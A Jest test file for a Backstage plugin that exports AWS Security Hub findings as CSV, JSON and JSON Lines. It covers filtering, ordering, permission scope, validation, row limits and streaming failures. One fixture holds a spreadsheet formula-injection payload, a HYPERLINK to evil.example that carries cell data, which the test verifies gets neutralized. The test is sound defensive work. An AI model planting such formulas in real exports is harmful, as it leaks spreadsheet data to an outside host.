import http from 'http';
import type { AddressInfo } from 'net';
import express from 'express';
import request from 'supertest';
import type { Knex } from 'knex';
import { mockErrorHandler, mockServices } from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import {
  asffFindingFixture,
  type Finding,
} from '@internal/plugin-securityhub-remediation-common';
import { dataset } from '../__testUtils__/findingsDataset';
import {
  findingsTestDatabases,
  migrateFindingsDatabase,
} from '../__testUtils__/testDatabases';
import { KnexFindingsStore } from '../services/FindingsStore';
import { CSV_EXPORT_COLUMNS } from '../services/FindingsExport';
import { routerApp } from './__testUtils__/routerApp';
import { createExportRouter } from './exportRouter';
import { inAccounts } from '../__testUtils__/inAccounts';

jest.setTimeout(60_000);

const { databases, ids } = findingsTestDatabases();

/** Parses RFC 4180 text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  return records;
}

const textParser = (
  res: any,
  done: (err: Error | null, body: string) => void,
) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (chunk: string) => (body += chunk));
  res.on('end', () => done(null, body));
};

/** Resolves once `done` holds, polling; fails after a few seconds. */
async function waitFor(done: () => boolean, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!done()) {
    if (Date.now() > deadline) throw new Error('timed out waiting');
    await new Promise(resolve => setTimeout(resolve, 10));
  }
}

describe.each(ids)('GET /v1/findings/export on %s', databaseId => {
  let knex: Knex;
  let store: KnexFindingsStore;
  let app: express.Express;
  const permissions = mockServices.permissions.mock();
  const logger = mockServices.logger.mock();

  const formula = asffFindingFixture({
    accountId: '444444444444',
    title: '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    resourceId: '@SUM(1+1)',
    severity: 'CRITICAL',
    suffix: 'formula',
  });

  beforeAll(async () => {
    knex = await databases.init(databaseId);
    await migrateFindingsDatabase(knex);
    store = new KnexFindingsStore(knex);
    await store.upsertBatch([...dataset(), formula], 'demo');
    app = await routerApp({ store, permissions, logger });
  });

  beforeEach(() => {
    jest.clearAllMocks();
    permissions.authorizeConditional.mockResolvedValue([
      { result: AuthorizeResult.ALLOW },
    ]);
  });

  /** Ids of every list page, in order, for the same query. */
  async function listedIds(query: Record<string, unknown>): Promise<string[]> {
    const res = await request(app)
      .get('/v1/findings')
      .query({ ...query, limit: 500 });
    expect(res.status).toBe(200);
    return res.body.items.map((f: Finding) => f.id);
  }

  it('streams the filtered view as CSV, in the list order', async () => {
    const res = await request(app)
      .get(
        '/v1/findings/export?format=csv&severity=HIGH&sort=updatedAt&order=asc',
      )
      .buffer(true)
      .parse(textParser);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="securityhub-findings-\d{8}T\d{6}Z\.csv"$/,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['access-control-expose-headers']).toBe(
      'Content-Disposition',
    );
    expect(res.headers.etag).toBeUndefined();

    const [header, ...records] = parseCsv(res.body);
    expect(header).toEqual([...CSV_EXPORT_COLUMNS]);
    const severity = header.indexOf('severity');
    expect(records.length).toBeGreaterThan(0);
    expect(records.every(r => r[severity] === 'HIGH')).toBe(true);
    expect(records.every(r => r.length === CSV_EXPORT_COLUMNS.length)).toBe(
      true,
    );
    expect(records.map(r => r[0])).toEqual(
      await listedIds({ severity: 'HIGH', sort: 'updatedAt', order: 'asc' }),
    );
  });

  it('quotes fields and neutralizes formulas in CSV', async () => {
    const res = await request(app)
      .get('/v1/findings/export?format=csv&accountId=444444444444')
      .buffer(true)
      .parse(textParser);
    expect(res.text ?? res.body).toContain(
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`,
    );
    const [header, record] = parseCsv(res.body);
    expect(record[header.indexOf('title')]).toBe(`'${formula.Title}`);
    expect(record[header.indexOf('resourceId')]).toBe("'@SUM(1+1)");
  });

  it('streams a JSON array of the list items', async () => {
    const res = await request(app).get(
      '/v1/findings/export?format=json&complianceStatus=FAILED&sort=title&order=desc',
    );
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/\.json"$/);
    const exported = (res.body as Finding[]).map(f => f.id);
    expect(exported).toEqual(
      await listedIds({
        complianceStatus: 'FAILED',
        sort: 'title',
        order: 'desc',
      }),
    );
    expect(exported.length).toBeGreaterThan(50);
  });

  it('streams JSON Lines', async () => {
    const res = await request(app)
      .get('/v1/findings/export?format=jsonl&region=eu-west-1')
      .buffer(true)
      .parse(textParser);
    expect(res.headers['content-type']).toBe(
      'application/x-ndjson; charset=utf-8',
    );
    const lines = (res.body as string).trim().split('\n');
    expect(lines).toHaveLength(60);
    expect(lines.every(l => JSON.parse(l).region === 'eu-west-1')).toBe(true);
  });

  it("exports only the accounts in the caller's scope", async () => {
    permissions.authorizeConditional.mockResolvedValue(
      inAccounts(['222222222222']),
    );
    const res = await request(app).get('/v1/findings/export?format=json');
    expect(res.status).toBe(200);
    const accounts = new Set((res.body as Finding[]).map(f => f.awsAccountId));
    expect([...accounts]).toEqual(['222222222222']);
    expect(res.body).toHaveLength(40);
  });

  it('answers 403 to a caller who may read no findings', async () => {
    permissions.authorizeConditional.mockResolvedValue([
      { result: AuthorizeResult.DENY },
    ]);
    const res = await request(app).get('/v1/findings/export?format=csv');
    expect(res.status).toBe(403);
  });

  it.each([
    ['format=xlsx', /format: must be one of csv, json, jsonl/],
    ['', /format: must be one of csv, json, jsonl/],
    ['format=csv&limit=10', /Unrecognized key\(s\) in object: 'limit'/],
    ['format=csv&severity=SEVERE', /severity\.0: Invalid enum value/],
    ['format=csv&sort=price', /sort: Invalid enum value/],
  ])('answers 400 with a clear message for %j', async (query, message) => {
    const res = await request(app).get(`/v1/findings/export?${query}`);
    expect(res.status).toBe(400);
    expect(res.body.error.message).toMatch(/^Invalid export query: /);
    expect(res.body.error.message).toMatch(message);
  });

  describe('with the export router alone', () => {
    function exportApp(
      options: Partial<Parameters<typeof createExportRouter>[0]>,
    ) {
      return express()
        .use(
          '/export',
          createExportRouter({
            store,
            readScope: async () => undefined,
            logger,
            ...options,
          }),
        )
        .use(mockErrorHandler());
    }

    it('refuses more findings than an export holds, before sending any', async () => {
      const res = await request(exportApp({ maxRows: 100 })).get(
        '/export?format=csv',
      );
      expect(res.status).toBe(400);
      expect(res.body.error.message).toMatch(
        /^121 findings match these filters; an export holds at most 100\. Narrow the filters/,
      );
    });

    it('stops reading from the store when the client disconnects', async () => {
      const read = { batches: 0, finished: false };
      const endless: typeof store = Object.create(store);
      // As many batches as the client takes: only a disconnect ends it.
      endless.streamFindings = async function* readForever(query, scope) {
        try {
          for (;;) {
            for await (const batch of store.streamFindings(query, scope)) {
              read.batches++;
              yield batch;
            }
          }
        } finally {
          read.finished = true;
        }
      };
      const server = exportApp({ store: endless }).listen(0, '127.0.0.1');
      await new Promise(resolve => server.once('listening', resolve));
      try {
        const { port } = server.address() as AddressInfo;
        await new Promise<void>((resolve, reject) => {
          const req = http.get(
            `http://127.0.0.1:${port}/export?format=jsonl`,
            res => res.once('data', () => req.destroy()),
          );
          req.on('close', resolve).on('error', reject);
        });
        await waitFor(() => read.finished);
        const readAtClose = read.batches;
        await new Promise(resolve => setTimeout(resolve, 100));
        expect(read.batches).toBe(readAtClose);
        // Kept only a socket's buffers ahead of what the client took.
        expect(readAtClose).toBeLessThan(200);
      } finally {
        server.close();
      }
    });

    it('leaves the download visibly incomplete when reading fails midway', async () => {
      const failing: typeof store = Object.create(store);
      failing.streamFindings = async function* streamThenFail(query, scope) {
        for await (const batch of store.streamFindings(query, scope, 10)) {
          yield batch;
          throw new Error('database connection lost');
        }
      };
      const outcome = request(exportApp({ store: failing })).get(
        '/export?format=json',
      );
      await expect(outcome).rejects.toThrow();
      expect(logger.error).toHaveBeenCalledWith(
        expect.stringMatching(
          /Findings export failed while streaming: Error: database connection lost/,
        ),
      );
    });
  });
});
